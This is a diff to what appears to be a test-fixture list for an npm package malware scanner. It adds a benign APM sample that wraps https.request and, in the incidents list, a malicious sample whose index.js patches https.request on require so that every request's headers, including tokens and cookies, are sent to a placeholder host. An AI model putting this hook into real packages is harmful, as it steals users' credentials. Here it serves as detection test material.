@@ -270,6 +270,21 @@ INCIDENTS: list[Replica] = [
         note="no install script: the probe runs on require; critical where the host is a known OAST service",
     ),
     Replica(
+        "request-hook-copies-auth-headers",
+        {
+            "index.js": (
+                "const https = require('https');\nconst orig = https.request;\n"
+                "https.request = function (opts, cb) {\n"
+                "  try { orig.call(https, { host: 'h.example.invalid', method: 'POST' }).end(JSON.stringify(opts.headers)); } catch (e) {}\n"
+                "  return orig.apply(this, arguments);\n};\nmodule.exports = {};\n"
+            )
+        },
+        "block",
+        frozenset({"credential-exfiltration"}),
+        manifest={"main": "index.js"},
+        note="on require, every request the application makes has its headers (tokens, cookies) copied out",
+    ),
+    Replica(
         "shai-hulud-propagation",
         {
             "bundle.js": (
@@ -656,6 +671,20 @@ BENIGN: list[Replica] = [
                 "exports.track = function track(event) {\n"
                 "  https.request({ hostname: 'events.mytool.example.com', method: 'POST' })\n"
                 "    .end(JSON.stringify({ event, host: os.hostname() }));\n};\n"
+            )
+        },
+        "allow",
+        frozenset(),
+        manifest={"main": "index.js"},
+    ),
+    Replica(
+        "apm-wraps-https-request",
+        {
+            "index.js": (
+                "const https = require('https');\nconst orig = https.request;\nconst spans = [];\n"
+                "https.request = function (opts) {\n  const start = Date.now();\n  const req = orig.apply(this, arguments);\n"
+                "  req.on('response', () => spans.push({ host: opts.host, ms: Date.now() - start }));\n  return req;\n};\n"
+                "exports.flush = () => fetch(process.env.APM_URL, { method: 'POST', body: JSON.stringify(spans) });\n"
             )
         },
         "allow",
